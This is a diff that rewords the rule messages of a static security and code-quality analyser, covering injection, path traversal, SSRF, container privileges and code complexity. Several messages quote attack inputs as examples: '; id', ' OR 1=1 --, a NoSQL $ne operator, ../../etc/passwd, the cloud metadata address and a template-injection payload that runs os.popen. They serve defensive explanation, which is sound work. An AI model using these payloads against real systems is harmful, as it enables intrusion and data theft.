@@ -2,7 +2,7 @@
 import type { RuleSet } from './rules/rule-data.ts';
 
 export const ruleSet: RuleSet = {
- "version": "1b9522eac4ff",
+ "version": "93d81e3ab2f7",
  "rules": [
   {
    "id": "any-type",
@@ -17,9 +17,9 @@ export const ruleSet: RuleSet = {
    "tags": [
     "types"
    ],
-   "message": "`any` switches the compiler off for this value and all that comes from it.",
-   "why": "What is read from a value of this type has the same type, so errors in far places go unseen.",
-   "fix": "Name the type, or use `unknown` and look before using it.",
+   "message": "`any` turns off type checks for this value. Errors in code that uses it go unseen.",
+   "why": "Each value that is read from this one has the type `any` as well.",
+   "fix": "Name the type, or use `unknown` and check it before use.",
    "references": [
     "https://cwe.mitre.org/data/definitions/704.html"
    ],
@@ -962,8 +962,8 @@ export const ruleSet: RuleSet = {
    "tags": [
     "performance"
    ],
-   "message": "Each turn of the loop waits for `{name}`; a hundred entries wait a hundred times.",
-   "why": "Every turn waits for an answer before the next one starts. With a database or a service on the other end the waits add up, and one query for all of them takes as long as one for the first.",
+   "message": "Each turn of the loop waits for `{name}`. A hundred entries wait a hundred times.",
+   "why": "Every turn waits for an answer before the next one starts. With a database or a service on the other end the waits add up.",
    "fix": "Ask for everything in one query, or start the calls together (`Promise.all`, `asyncio.gather`) where they do not depend on each other.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1050.html"
@@ -1565,9 +1565,9 @@ export const ruleSet: RuleSet = {
     "template",
     "flow"
    ],
-   "message": "{value} from {source} is run as code by `{sink}`. An attacker can send code of their own, which runs with the rights of this program.",
-   "why": "`eval`, `Function`, `exec` and template compilers run whatever text they are given, with all the rights of the program. No filter on the text holds against somebody who tries.",
-   "fix": "Parse the text as data (JSON, a number, a name from a list); give templates values as variables, never as part of the template.",
+   "message": "{value} from {source} is run as code by `{sink}`. An attacker can send code that runs with the rights of this program.",
+   "why": "`eval`, `Function`, `exec` and template compilers run whatever text they are given, with all the rights of the program. No filter on the text holds.",
+   "fix": "Parse the text as data (JSON, a number, a name from a list). Give templates values as variables, never as part of the template.",
    "references": [
     "https://cwe.mitre.org/data/definitions/94.html",
     "https://owasp.org/www-community/attacks/Code_Injection"
@@ -1612,9 +1612,9 @@ export const ruleSet: RuleSet = {
    "tags": [
     "complexity"
    ],
-   "message": "{name} takes an effort of {count} to follow (limit {limit}): each condition counts more the deeper it stands.",
+   "message": "{name} is hard to follow: complexity {count} (limit {limit}). Nested conditions count more.",
    "why": "Conditions inside loops inside conditions have to be kept in mind all at once. The effort of reading grows with the depth, and so does the number of mistakes in the next change.",
-   "fix": "Return early, take inner loops out into functions with a name, or turn conditions into a table.",
+   "fix": "Return early, move inner loops into functions with a name, or turn conditions into a table.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1121.html"
    ],
@@ -1682,8 +1682,8 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} becomes part of the command that `{sink}` runs. An attacker can send `; id` and run commands of their own.",
-   "why": "A shell gives meaning to `;`, `|`, `$( )` and many other signs. Text of a stranger inside a command line runs as a command of the stranger's, with the rights of your service.",
-   "fix": "Call the program without a shell and pass each argument as its own list element; check values against a list where you can.",
+   "why": "A shell gives meaning to `;`, `|`, `$( )` and many other characters. An attacker's text inside a command line runs as their command, with the rights of your service.",
+   "fix": "Call the program without a shell and pass each argument as its own list element. Check values against a list where you can.",
    "references": [
     "https://cwe.mitre.org/data/definitions/78.html",
     "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html"
@@ -1763,9 +1763,9 @@ export const ruleSet: RuleSet = {
    "tags": [
     "complexity"
    ],
-   "message": "{name} has {count} independent paths; above {limit} nobody tests them all.",
-   "why": "Each condition doubles the ways through a function. Past a certain number nobody knows them all, tests cover a part, and every change breaks something that was not thought of.",
-   "fix": "Take parts out into functions with a name of their own, or turn the conditions into a table.",
+   "message": "{name} has {count} independent paths (limit {limit}). Tests rarely cover them all.",
+   "why": "Each condition doubles the ways through a function. Past a certain number, every change breaks one that was not thought of.",
+   "fix": "Move parts into functions with a name of their own, or turn the conditions into a table.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1121.html"
    ],
@@ -1927,8 +1927,8 @@ export const ruleSet: RuleSet = {
    "tags": [
     "duplication"
    ],
-   "message": "{name} does the same as {first}, word for word.",
-   "why": "A mistake in one of them is in both, and the day somebody mends one of them they begin to differ.",
+   "message": "{name} is a word-for-word copy of {first}. A fix in one is easily forgotten in the other.",
+   "why": "A mistake in one of them is in both. After the first fix they begin to differ.",
    "fix": "Keep one and call it from both places.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1041.html"
@@ -1957,9 +1957,9 @@ export const ruleSet: RuleSet = {
    "tags": [
     "duplication"
    ],
-   "message": "{count} lines from here on are the same as those from line {line}.",
-   "why": "Copied code is mended in one place and forgotten in the other.",
-   "fix": "Take the lines out into a function that both places call.",
+   "message": "{count} lines from here are the same as those from line {line}.",
+   "why": "Copied code is fixed in one place and forgotten in the other.",
+   "fix": "Move the lines into a function that both places call.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1041.html"
    ],
@@ -2724,9 +2724,9 @@ export const ruleSet: RuleSet = {
     "html",
     "flow"
    ],
-   "message": "{value} from {source} is sent as HTML by `{sink}`. An attacker can put a script into it, which runs in the browser of the reader.",
-   "why": "The browser runs every script in a page with the rights of the person who reads it. Text of a stranger inside HTML can therefore read their data and act in their name.",
-   "fix": "Let the template engine or the framework escape the text; set `textContent` instead of `innerHTML`; clean wanted HTML with a sanitizer.",
+   "message": "{value} from {source} is sent as HTML by `{sink}`. An attacker can put a script into it that runs in the reader's browser.",
+   "why": "The browser runs every script in a page with the rights of the reader. An attacker's text inside HTML can read their data and act in their name.",
+   "fix": "Let the template engine or the framework escape the text. Set `textContent` instead of `innerHTML`, and clean wanted HTML with a sanitizer.",
    "references": [
     "https://cwe.mitre.org/data/definitions/79.html",
     "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html"
@@ -3529,9 +3529,9 @@ export const ruleSet: RuleSet = {
    "tags": [
     "complexity"
    ],
-   "message": "This stands {count} levels deep in {name} (limit {limit}).",
-   "why": "What stands this deep runs only when five or more conditions hold at once, and to change it one has to keep them all in mind.",
-   "fix": "Return early where a condition fails, or take the inner part out into a function.",
+   "message": "This code is nested {count} levels deep in {name} (limit {limit}).",
+   "why": "Code at this depth runs only when five or more conditions hold at once. To change it, you have to keep them all in mind.",
+   "fix": "Return early where a condition fails, or move the inner part into a function.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1124.html"
    ],
@@ -3746,8 +3746,8 @@ export const ruleSet: RuleSet = {
    "tags": [
     "error-handling"
    ],
-   "message": "This handler swallows the error; nobody will learn that something failed.",
-   "why": "An empty handler hides every failure, the ones you did not think of included. The program goes on with data that was never written or read, and the cause is gone by the time somebody notices.",
+   "message": "This handler swallows the error. The program goes on as if nothing had failed.",
+   "why": "An empty handler hides every failure, also those that you didn't think of. The program goes on with data that was never written or read.",
    "fix": "Handle the error, log it, or let it through. When silence is right, say why in a comment inside the handler.",
    "references": [
     "https://cwe.mitre.org/data/definitions/390.html"
@@ -4376,8 +4376,8 @@ export const ruleSet: RuleSet = {
     "error-handling"
    ],
    "message": "`{name}` is async and its result is dropped: {outcome}.",
-   "why": "A promise that nobody awaits goes on after the function has answered, and its failure is reported to nobody. In Python the coroutine is only created and never started.",
-   "fix": "Await it; where it must run on its own, keep the promise and handle its errors.",
+   "why": "A promise without `await` goes on after the function has answered, and its failure is reported nowhere. In Python the coroutine is only created and never started.",
+   "fix": "Await it. If it must run on its own, keep the promise and handle its errors.",
    "references": [
     "https://cwe.mitre.org/data/definitions/252.html"
    ],
@@ -6381,9 +6381,9 @@ export const ruleSet: RuleSet = {
     "open-redirect",
     "cors-any-origin"
    ],
-   "message": "{value} from {source} becomes a header of the answer in `{sink}`. An attacker can tell the browser what to keep, allow or believe.",
-   "why": "Headers tell browsers and caches what to do. Text of a stranger there can set cookies or policies; where the server lets line breaks through, it can end the header and write a whole answer.",
-   "fix": "Set headers to values of your own; encode what must be carried (`encodeURIComponent`), and refuse line breaks.",
+   "message": "{value} from {source} becomes a header of the response in `{sink}`. An attacker can set cookies and policies in the visitor's browser.",
+   "why": "Headers tell browsers and caches what to do. Where the server lets line breaks through, an attacker can end the header and write a whole response.",
+   "fix": "Set headers to values of your own. Encode what must be carried (`encodeURIComponent`), and refuse line breaks.",
    "references": [
     "https://cwe.mitre.org/data/definitions/113.html",
     "https://owasp.org/www-community/attacks/HTTP_Response_Splitting"
@@ -10950,8 +10950,8 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} goes into the log through `{sink}`. An attacker can send a line break and write entries that never happened.",
-   "why": "Whoever can put a line break into a log can forge entries and hide their own. Tools that read the log line by line, or show it in a browser, take what was sent for what the program said.",
-   "fix": "Take line breaks out (`value.replace(/[\\r\\n]/g, ' ')`, in Python log `%r` or `value.splitlines()[0]`), or write entries as JSON.",
+   "why": "Anyone who can put a line break into a log can forge entries and hide their own. Tools that read the log line by line take them for the program's words.",
+   "fix": "Remove line breaks (`value.replace(/[\\r\\n]/g, ' ')`, in Python log `%r` or `value.splitlines()[0]`), or write entries as JSON.",
    "references": [
     "https://cwe.mitre.org/data/definitions/117.html",
     "https://cheatsheetseries.owasp.org/cheatsheets/Logging_Cheat_Sheet.html"
@@ -11011,8 +11011,8 @@ export const ruleSet: RuleSet = {
    "tags": [
     "size"
    ],
-   "message": "The file has {count} written lines (limit {limit}).",
-   "why": "In a file this long several subjects have met. Everybody who changes one of them reads past the others.",
+   "message": "The file has {count} lines of code (limit {limit}).",
+   "why": "A file this long holds several subjects. Everyone who changes one of them reads past the others.",
    "fix": "Split it by what changes for the same reason.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1080.html"
@@ -11042,8 +11042,8 @@ export const ruleSet: RuleSet = {
     "size"
    ],
    "message": "{name} is {count} lines long (limit {limit}).",
-   "why": "A function that does not fit on two screens does several things. Its variables reach further than anybody looks.",
-   "fix": "Take parts out into functions that say by their name what they do.",
+   "why": "A function that doesn't fit on two screens does several things. Its variables reach further than a reader looks.",
+   "fix": "Move parts into functions that say by their name what they do.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1080.html"
    ],
@@ -11228,7 +11228,7 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "All of {value} from {source} is written into a record by `{sink}`. An attacker can set fields that no form shows, such as `role`.",
-   "why": "A record made from a whole request takes every field that the sender thinks of. `isAdmin`, `balance` or `ownerId` are then theirs to write, although no form shows them.",
+   "why": "A record made from a whole request takes every field that the sender adds. `isAdmin`, `balance` or `ownerId` are then theirs to write.",
    "fix": "Pick the fields that may be set (`const { name, email } = req.body`, in Python `{key: data[key] for key in ALLOWED}`), or check the body with a schema or form that drops the rest.",
    "references": [
     "https://cwe.mitre.org/data/definitions/915.html",
@@ -11718,8 +11718,8 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} goes into `{sink}` unchecked. An attacker can send `{\"$ne\": null}` and match every record.",
-   "why": "A document database takes operators as part of the query object. Where a text is expected, a stranger can send `{\"$ne\": null}` or code for `$where`, and so log in without a password or read every record.",
-   "fix": "Make texts of what should be texts (`String(value)`, in Python `str(value)`), compare with `$eq`, or check the input with a schema; never build `$where` from input.",
+   "why": "A document database takes operators as part of the query. Where a text is expected, an attacker can send `{\"$ne\": null}`, log in without a password and read every record.",
+   "fix": "Turn the value into a text first (`String(value)`, in Python `str(value)`), compare with `$eq`, or check the input with a schema. Never build `$where` from input.",
    "references": [
     "https://cwe.mitre.org/data/definitions/943.html",
     "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05.6-Testing_for_NoSQL_Injection"
@@ -11780,8 +11780,8 @@ export const ruleSet: RuleSet = {
     "redirect",
     "flow"
    ],
-   "message": "{value} from {source} decides where `{sink}` sends the browser. An attacker can write a link to this site that ends on another one.",
-   "why": "People trust a link that begins with your address. A redirect that follows any address turns that trust into a way to a copied login page, or carries tokens in the address to a stranger.",
+   "message": "{value} from {source} decides where `{sink}` sends the browser. An attacker can write a link to this site that leads to another one.",
+   "why": "People trust a link that begins with your address. A redirect to any address turns that trust into a way to a copied login page.",
    "fix": "Redirect to paths of your own that begin with a single `/`, or compare the target with a list.",
    "references": [
     "https://cwe.mitre.org/data/definitions/601.html",
@@ -12015,8 +12015,8 @@ export const ruleSet: RuleSet = {
     "template-injection"
    ],
    "message": "{value} from {source} chooses the file in `{sink}`. An attacker can send `../../etc/passwd` and reach files outside of the folder.",
-   "why": "A name such as `../../etc/passwd`, or an absolute path, leaves the folder that was joined before it. What can be read that way is every file that the service can read: keys, settings, other customers' documents. Where the text is a part of a view's name, or of a name that ends in `.json` and is loaded by `require`, it counts as medium: it leads to another view, or to data of that ending, and no further. It counts as medium as well where the text chooses the folder and the program writes the name of the file (`.gitignore`, `settings.json`), since files of that name alone are reached, unless such a file runs or holds keys; and where folders are only listed, made or asked for, since no content is read or changed. So it does where Express sends a file whose path was put together and not resolved: it refuses `..` itself.",
-   "fix": "Take the last part of the name alone, or resolve the whole path and make sure that it still begins with your folder.",
+   "why": "A name such as `../../etc/passwd`, or an absolute path, leaves the folder that was joined before it. Every file that the service can read is in reach: keys, settings, other customers' documents.",
+   "fix": "Use the last part of the name alone, or resolve the whole path and check that it still begins with your folder.",
    "references": [
     "https://cwe.mitre.org/data/definitions/22.html",
     "https://owasp.org/www-community/attacks/Path_Traversal"
@@ -12136,8 +12136,8 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} becomes part of the instructions in `{sink}`. An attacker can tell the model to do something else.",
-   "why": "A language model cannot tell your instructions from a stranger's when both stand in the same text. What is meant as data then decides which tools are called, what is given away, and what others read.",
-   "fix": "Keep the instructions constant and send what strangers write as a message of its own with the role `user`; check what comes back before acting on it.",
+   "why": "A language model can't tell your instructions from an attacker's when both are in the same text. Data then decides which tools are called and what is given away.",
+   "fix": "Keep the instructions constant and send outside text as a message of its own with the role `user`. Check the answer before acting on it.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1427.html",
     "https://genai.owasp.org/llmrisk/llm01-prompt-injection/"
@@ -12175,7 +12175,7 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} is a key on the way to `{sink}`. An attacker can send `__proto__` and change every object of the program.",
-   "why": "Objects take what they lack from their prototype. A stranger who can write to it changes what every object of the program seems to hold: a flag that says administrator, a path, an option that starts commands.",
+   "why": "Objects take what they lack from their prototype. An attacker who writes to it changes what every object seems to hold, such as a flag that says administrator.",
    "fix": "Refuse the keys `__proto__`, `constructor` and `prototype`, keep entries in a `Map` or in `Object.create(null)`, or copy only the keys that you know.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1321.html",
@@ -12677,9 +12677,9 @@ export const ruleSet: RuleSet = {
     "denial-of-service",
     "flow"
    ],
-   "message": "{value} from {source} becomes a regular expression in `{sink}`. An attacker can send one that takes minutes, while the program answers nobody.",
-   "why": "Some regular expressions take time that doubles with each sign of the text. A stranger who writes the expression can send one of them, and the whole process waits; or one that matches more than it should.",
-   "fix": "Escape the text before (`RegExp.escape`, `_.escapeRegExp`, `re.escape`), or search for it with `includes`.",
+   "message": "{value} from {source} becomes a regular expression in `{sink}`. An attacker can send one that blocks this process for minutes.",
+   "why": "Some regular expressions take time that doubles with each character of the text. An attacker who writes the expression can send one of them, and the whole process waits.",
+   "fix": "Escape the text first (`RegExp.escape`, `_.escapeRegExp`, `re.escape`), or search for it with `includes`.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1333.html",
     "https://owasp.org/www-community/attacks/Regular_expression_Denial_of_Service_-_ReDoS"
@@ -13129,8 +13129,8 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} decides where `{sink}` connects. An attacker can send `http://169.254.169.254/` and reach machines that only this server can.",
-   "why": "The request goes out from inside your network and with its rights. A stranger who picks the host reaches metadata services, databases and admin pages that no firewall lets them reach directly.",
-   "fix": "Keep scheme and host fixed, or compare the host with a list of your own before the request; follow no redirects.",
+   "why": "The request goes out from inside your network and with its rights. An attacker who picks the host reaches metadata services, databases and admin pages behind the firewall.",
+   "fix": "Keep scheme and host fixed, or compare the host with a list of your own before the request. Follow no redirects.",
    "references": [
     "https://cwe.mitre.org/data/definitions/918.html",
     "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html"
@@ -13306,7 +13306,7 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} becomes part of the SQL in `{sink}`. An attacker can send `' OR 1=1 --` and read or change other rows.",
-   "why": "The database cannot tell the parts of a statement that you wrote from those that a stranger wrote. With a quote or a comment sign in the right place, a search becomes a dump of another table, a login without a password, or a deletion.",
+   "why": "The database can't tell your part of a statement from an attacker's part. A quote or comment sign in the right place turns a search into a dump of another table.",
    "fix": "Pass the value as a parameter (`$1`, `?`, `%s`, `:name`) and let the driver bind it. Names of tables and columns come from a list of your own.",
    "references": [
     "https://cwe.mitre.org/data/definitions/89.html",
@@ -13872,8 +13872,8 @@ export const ruleSet: RuleSet = {
    "tags": [
     "error-handling"
    ],
-   "message": "Whatever goes wrong above ends in `{name}`, and nobody learns of it.",
-   "why": "The handler stands for one failure that was expected. It also takes each mistake in the code above, a wrong name included, and turns it into a normal answer.",
+   "message": "Every error above ends in `{name}`. Callers can't tell a failure from a normal answer.",
+   "why": "The handler is meant for one failure that was expected. It also takes each mistake in the code above, a wrong name included.",
    "fix": "Log the error, handle the one that is expected, or say in a comment why nothing is lost.",
    "references": [
     "https://cwe.mitre.org/data/definitions/390.html"
@@ -13904,8 +13904,8 @@ export const ruleSet: RuleSet = {
     "template",
     "flow"
    ],
-   "message": "{value} from {source} is compiled as a template by `{sink}`. An attacker can send `{{7*7}}` and then run code on the server.",
-   "why": "A template is a small program. `{{ 7 * 7 }}` in a name is harmless, `{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}` is a shell. Values belong into the context, where the engine escapes them, never into the template's own text.",
+   "message": "{value} from {source} is compiled as a template by `{sink}`. An attacker can send `{{7*7}}`, then run code on the server.",
+   "why": "A template is a small program. `{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}` is a shell. Values belong into the context, where the engine escapes them.",
    "fix": "Keep templates in files of your own and pass values as context: `res.render(\"hello\", { name })`, `render_template(\"hello.html\", name=name)`.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1336.html",
@@ -15129,9 +15129,9 @@ export const ruleSet: RuleSet = {
    "tags": [
     "complexity"
    ],
-   "message": "{name} takes {count} parameters by position (limit {limit}); callers mix them up.",
-   "why": "At the place of the call nobody sees which value is which, and two neighbours of the same type change places unnoticed.",
-   "fix": "Take one object with named fields; in Python make them keyword-only with `*`.",
+   "message": "{name} takes {count} parameters by position (limit {limit}). Callers can swap two of them unnoticed.",
+   "why": "A call doesn't show which value is which.",
+   "fix": "Take one object with named fields. In Python make them keyword-only with `*`.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1064.html"
    ],
@@ -16483,8 +16483,8 @@ export const ruleSet: RuleSet = {
     "flow"
    ],
    "message": "{value} from {source} is turned into objects by `{sink}`. An attacker can send data that names code to run.",
-   "why": "These formats can say which class or function to call while they are read. Reading them from a stranger is the same as running the stranger's program.",
-   "fix": "Exchange data as JSON and check it against a schema; where objects must travel, sign them and verify the signature first.",
+   "why": "These formats can name a class or function to call while they are read. Reading them from an attacker is the same as running the attacker's program.",
+   "fix": "Exchange data as JSON and check it against a schema. Where objects must travel, sign them and verify the signature first.",
    "references": [
     "https://cwe.mitre.org/data/definitions/502.html",
     "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html"
@@ -17802,8 +17802,8 @@ export const ruleSet: RuleSet = {
     "dead-code"
    ],
    "message": "The {what} `{name}` is never used.",
-   "why": "A name that nobody reads is left over, or a sign that something else is used in its place by mistake. An unused import still costs start-up time and ties the file to a module.",
-   "fix": "Remove it; a name that must stay can begin with an underscore.",
+   "why": "An unused name is a leftover, or a sign that something else is used in its place by mistake. An unused import still costs start-up time.",
+   "fix": "Remove it. A name that must stay can begin with an underscore.",
    "references": [
     "https://cwe.mitre.org/data/definitions/563.html"
    ],
@@ -17829,8 +17829,8 @@ export const ruleSet: RuleSet = {
     "dead-code"
    ],
    "message": "`{function}` never reads its parameter `{name}`.",
-   "why": "The function is only called from this file, so no interface asks for the parameter. Callers prepare a value for nothing, and readers look for its effect.",
-   "fix": "Remove the parameter and the argument of each call; where it must stay, let its name begin with `_`.",
+   "why": "The function is only called from this file, so no interface asks for the parameter. Callers prepare a value for nothing.",
+   "fix": "Remove the parameter and the argument of each call. If it must stay, let its name begin with `_`.",
    "references": [
     "https://cwe.mitre.org/data/definitions/1164.html"
    ],
@@ -19893,9 +19893,9 @@ export const ruleSet: RuleSet = {
     "parser",
     "flow"
    ],
-   "message": "`{name}` reads what a document names as its entities. An attacker can send one that pulls in files of this server.",
-   "why": "A document type definition may name entities whose text lies in a file or behind an address. A parser that resolves them reads `/etc/passwd` or an internal service into the answer, or never ends when entities name each other.",
-   "fix": "In Node.js leave `noent` and `dtdload` of `libxmljs` off; in Python parse with `defusedxml`, or with `lxml.etree.XMLParser(resolve_entities=False, no_network=True)`; leave `feature_external_ges` off.",
+   "message": "`{name}` resolves external entities of the document. An attacker can send one that reads files of this server.",
+   "why": "A document type definition may name entities whose text lies in a file or behind an address. A parser that resolves them reads `/etc/passwd` or an internal service into the answer.",
+   "fix": "In Node.js leave `noent` and `dtdload` of `libxmljs` off. In Python parse with `defusedxml`, or with `lxml.etree.XMLParser(resolve_entities=False, no_network=True)`.",
    "references": [
     "https://cwe.mitre.org/data/definitions/611.html",
     "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
@@ -36609,9 +36609,9 @@ export const ruleSet: RuleSet = {
     "CKV_AZURE_66",
     "CKV_GCP_62"
    ],
-   "message": "{name} keeps no log of who uses it.",
-   "why": "After a break-in the first question is what was read and by whom. Without a log nobody can say, and everybody has to be told.",
-   "fix": "Switch access logs on, into a bucket or workspace that the service itself cannot change.",
+   "message": "{name} keeps no access log. After a break-in, nothing shows what was read.",
+   "why": "After a break-in the first question is what was read and by whom. Without a log, every user has to be informed.",
+   "fix": "Turn access logs on, into a bucket or workspace that the service itself can't change.",
    "references": [
     "https://docs.aws.amazon.com/wellarchitected/latest/security-pillar/detection.html"
    ],
@@ -39179,8 +39179,8 @@ export const ruleSet: RuleSet = {
     "CIS-K8S-5.2.10",
     "CIS-Docker-5.3"
    ],
-   "message": "`{name}` keeps the runtime's default capabilities; few programs need one of them.",
-   "why": "A container starts with some fourteen capabilities, `NET_RAW` among them, with which it can forge packets in the cluster's network. Dropping all and adding back what is needed costs nothing.",
+   "message": "{name} keeps the runtime's default capabilities. An attacker in it can forge packets in the cluster's network.",
+   "why": "A container starts with some fourteen capabilities, `NET_RAW` among them. Few programs need any of them.",
    "fix": "Drop `ALL`, and add `NET_BIND_SERVICE` alone where a port below 1024 is opened.",
    "references": [
     "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
@@ -42560,8 +42560,8 @@ export const ruleSet: RuleSet = {
     "KSV-0105",
     "CIS-K8S-5.2.7"
    ],
-   "message": "Nothing keeps `{name}` from running as root.",
-   "why": "Without `runAsNonRoot` the image decides the user, and most images say root. Root in the container is one kernel or runtime flaw away from root on the node, and may write wherever a volume is mounted.",
+   "message": "{name} may run as root. An attacker who gets into it can write wherever a volume is mounted.",
+   "why": "Without `runAsNonRoot` the image decides the user, and most images say root. A vulnerability of the kernel or the runtime is then enough to be root on the node.",
    "fix": "Set `runAsNonRoot: true` (and a `runAsUser` other than 0 where the image names no number) in the pod's or the container's security context.",
    "references": [
     "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
@@ -42583,7 +42583,7 @@ export const ruleSet: RuleSet = {
        "is": 0
       }
      ],
-     "message": "`{name}` runs as root: its user id is 0."
+     "message": "{name} runs as root, since its user id is 0. An attacker who gets into it can write wherever a volume is mounted."
     },
     {
      "format": "kubernetes",
@@ -42726,8 +42726,8 @@ export const ruleSet: RuleSet = {
     "CIS-Docker-5.31",
     "CIS-K8S-5.2.12"
    ],
-   "message": "The container engine's socket is mounted into `{name}`: whoever holds it is root on the host.",
-   "why": "Through the socket of Docker, containerd or CRI-O a process starts a new container with the host's disk in it. That is full control of the machine, whatever else the container is denied. Mounting it read-only changes nothing, since requests are not writes to a file.",
+   "message": "{name} mounts the container engine's socket. A program with the socket is root on the host.",
+   "why": "Through the socket of Docker, containerd or CRI-O a process starts a new container with the host's disk in it. Mounting it read-only changes nothing, since requests aren't writes to a file.",
    "fix": "Do without the socket, or put a filtering proxy before it that allows the few requests that are needed.",
    "references": [
     "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
@@ -44832,9 +44832,9 @@ export const ruleSet: RuleSet = {
     "network",
     "CIS-Docker-5.13"
    ],
-   "message": "The port {value} of `{name}` is open on every address of the host.",
-   "why": "A published port without an address listens on all of them, and Docker opens the firewall for it. A database on the internet is found within the hour.",
-   "fix": "Leave `ports` out, services of one network reach each other; or bind to the host alone: `127.0.0.1:5432:5432`.",
+   "message": "{name} publishes database port {value} on every address of the host. Everyone who reaches the host can try passwords.",
+   "why": "A published port without an address listens on all networks, and Docker opens the firewall for it. A database on the internet is found within the hour.",
+   "fix": "Leave `ports` out, since services of one network reach each other. Or bind to the host alone: `127.0.0.1:5432:5432`.",
    "references": [
     "https://docs.docker.com/engine/network/packet-filtering-firewalls/",
     "https://docs.docker.com/reference/compose-file/services/"
@@ -45974,8 +45974,8 @@ export const ruleSet: RuleSet = {
     "supply-chain",
     "CIS-Docker-4.11"
    ],
-   "message": "What is fetched from the network runs at once, unseen and unchecked.",
-   "why": "The server, or whoever stands in for it, decides what runs here. It can even tell a pipe from a look in the browser and answer each differently; and a broken connection runs half of a script.",
+   "message": "A download is run without a check. The server decides which commands run here.",
+   "why": "The server can tell a pipe from a browser and answer each differently. A broken connection runs half of a script.",
    "fix": "Fetch a named version to a file, compare its checksum or signature, then run it.",
    "references": [
     "https://cheatsheetseries.owasp.org/cheatsheets/Software_Supply_Chain_Security_Cheat_Sheet.html"
@@ -46082,7 +46082,7 @@ export const ruleSet: RuleSet = {
       }
      ],
      "at": ".",
-     "message": "What is downloaded here runs as it comes, without a look at what it is."
+     "message": "A download is run without a check. The server decides which commands run here."
     },
     {
      "format": "actions",
@@ -46103,7 +46103,7 @@ export const ruleSet: RuleSet = {
       }
      ],
      "at": ".",
-     "message": "What is downloaded here runs as it comes, without a look at what it is."
+     "message": "A download is run without a check. The server decides which commands run here."
     }
    ],
    "languages": [
@@ -46940,8 +46940,8 @@ export const ruleSet: RuleSet = {
     "CKV_DOCKER_2",
     "CIS-Docker-4.6"
    ],
-   "message": "The image says nothing of how to tell whether it works.",
-   "why": "Without `HEALTHCHECK` an engine sees a process that runs, not whether it answers; a hanging container is never replaced. Kubernetes has probes of its own.",
+   "message": "The image has no `HEALTHCHECK`. A container that hangs is never replaced.",
+   "why": "Without `HEALTHCHECK` an engine sees a process that runs, not whether it answers. Kubernetes has probes of its own.",
    "fix": "Add a `HEALTHCHECK` that asks the program something it can always answer.",
    "references": [
     "https://docs.docker.com/reference/dockerfile/#healthcheck"
@@ -48371,9 +48371,9 @@ export const ruleSet: RuleSet = {
     "CKV_DOCKER_8",
     "CIS-Docker-4.1"
    ],
-   "message": "The image runs as root: its last stage names no other user.",
-   "why": "Without `USER` the program is root in the container, and one flaw of the kernel or the runtime away from root on the host. It may also change every file of the image.",
-   "fix": "Create a user and switch to it as the last step: `RUN useradd --system app` and `USER app`.",
+   "message": "The image runs as root, since its last stage names no other user. An attacker who gets into the program can change the whole image.",
+   "why": "Without `USER` the program is root in the container. A vulnerability of the kernel or the runtime is then enough to be root on the host.",
+   "fix": "Create a user and switch to it in the last step: `RUN useradd --system app` and `USER app`.",
    "references": [
     "https://docs.docker.com/build/building/best-practices/",
     "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
@@ -48390,7 +48390,7 @@ export const ruleSet: RuleSet = {
        "matches": "^(?:root|0)(?::|$)"
       }
      ],
-     "message": "The image runs as root: `USER {value}` is the last one that counts."
+     "message": "The image runs as root, since `USER {value}` comes last. An attacker who gets into the program can change the whole image."
     },
     {
      "format": "dockerfile",
@@ -48421,7 +48421,7 @@ export const ruleSet: RuleSet = {
        "matches": "^(?:root|0)(?::|$)"
       }
      ],
-     "message": "`{name}` runs as root."
+     "message": "{name} runs as root. An attacker who gets into the program can change the whole image."
     }
    ],
    "languages": [
@@ -48446,9 +48446,9 @@ export const ruleSet: RuleSet = {
     "images",
     "CKV_K8S_43"
    ],
-   "message": "`{value}` is named by a tag, which can be moved to another image.",
+   "message": "`{value}` is named by a tag without a digest. Its owner can move the tag to another image.",
    "why": "A tag is a label that its owner may move. A digest names one image for good.",
-   "fix": "Add the digest: `image:1.4.2@sha256:…`; a bot can keep it up to date.",
+   "fix": "Add the digest: `image:1.4.2@sha256:…`. Dependabot keeps it up to date.",
    "references": [
     "https://kubernetes.io/docs/concepts/containers/images/"
    ],
@@ -51590,8 +51590,8 @@ export const ruleSet: RuleSet = {
     "KSV-0011",
     "CIS-Docker-5.11"
    ],
-   "message": "`{name}` has no processor limit.",
-   "why": "A program that spins takes all processor time that its neighbours did not reserve; a limit is also what stops somebody who mines coins in it from being noticed late.",
